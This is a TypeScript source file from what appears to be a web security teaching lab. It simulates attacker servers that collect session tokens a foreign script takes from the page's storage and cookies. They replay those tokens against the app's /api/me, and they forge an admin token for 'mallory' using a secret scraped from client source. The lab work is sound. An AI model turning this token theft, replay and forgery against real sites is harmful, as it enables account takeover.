/** The attackers of the lab: a server of another port of the same host, and one of another site. */
import type { WebRequest } from '../sandbox/encode.ts'
import { shortened } from './app.ts'
import { type Handler, headerOf, json, page, type Reply, textOf } from './http.ts'
import { attackerPage, foreignScript } from './pages.ts'
import type { Origins } from './storage.ts'
import { signToken } from './tokens.ts'

export function createAttacker(options: {
  origins: Origins
  kind: 'sibling' | 'stranger'
  tell: (line: string) => void
}): Handler {
  const { origins, kind, tell } = options
  const name = kind === 'sibling' ? 'other port' : 'other site'

  const home = (request: WebRequest): Reply => {
    if ((headerOf(request, 'cookie') ?? '').includes('__Host-session='))
      tell(`${name}: this server received your HttpOnly cookie. Cookies don't know ports.`)
    return page(attackerPage(kind, origins))
  }

  /** What the foreign script found in the page. */
  const loot = async (request: WebRequest): Promise<Reply> => {
    const found = JSON.parse(textOf(request)) as Record<
      'localStorage' | 'sessionStorage' | 'cookie',
      string | null
    >
    const answer = json({}, 200, [['Access-Control-Allow-Origin', origins.app]])
    const cookie = /__Host-session=([^;]+)/.exec(found.cookie ?? '')?.[1]
    if (!found.localStorage && !found.sessionStorage && cookie === undefined) {
      tell(`${name}: the script found no token anywhere. Log in first, then run it again.`)
      return answer
    }
    for (const place of ['localStorage', 'sessionStorage'] as const) {
      const token = found[place]
      if (!token) tell(`${name}: the script found no token in ${place}`)
      else
        tell(
          `${name}: stolen from ${place} (${shortened(token)}) and used from here: ${await tryToken(token)}`,
        )
    }
    if (cookie === undefined)
      tell(
        `${name}: document.cookie does not show the session, so the script can't take it away. But it can write from this page:`,
      )
    else
      tell(
        `${name}: stolen from document.cookie (${shortened(cookie)}) and used from here: ${await tryToken(cookie)}. Is HttpOnly missing?`,
      )
    return answer
  }

  const tryToken = async (token: string): Promise<string> => {
    const headers = { Authorization: `Bearer ${token}` }
    const response = await fetch(`${origins.app}/api/me`, { headers })
    const { sub } = (await response.json()) as { sub?: string }
    return sub === undefined ? String(response.status) : `${response.status}, as ${sub}`
  }

  /** Reads the secret out of the page that makes its tokens itself, and makes one. */
  const forge = async (): Promise<Reply> => {
    const source = await (await fetch(`${origins.app}/client-made`)).text()
    const secret = /const SECRET = '([^']+)'/.exec(source)?.[1] ?? ''
    tell(`${name}: the source of /client-made says: const SECRET = '${secret}'`)
    const token = signToken({ sub: 'mallory', role: 'admin' }, secret)
    const response = await fetch(`${origins.app}/api/client-made`, {
      headers: { Authorization: `Bearer ${token}` },
    })
    tell(`${name}: a token forged with it: ${response.status}, ${await response.text()}`)
    return json({})
  }

  const routes: Record<string, Handler> = {
    'GET /': home,
    'GET /widget.js': () => ({
      status: 200,
      headers: [['Content-Type', 'text/javascript']],
      body: foreignScript(origins),
    }),
    'POST /loot': loot,
    'POST /forge': forge,
  }
  return request => routes[`${request.method} ${new URL(request.url).pathname}`]?.(request) ?? { status: 404 }
}
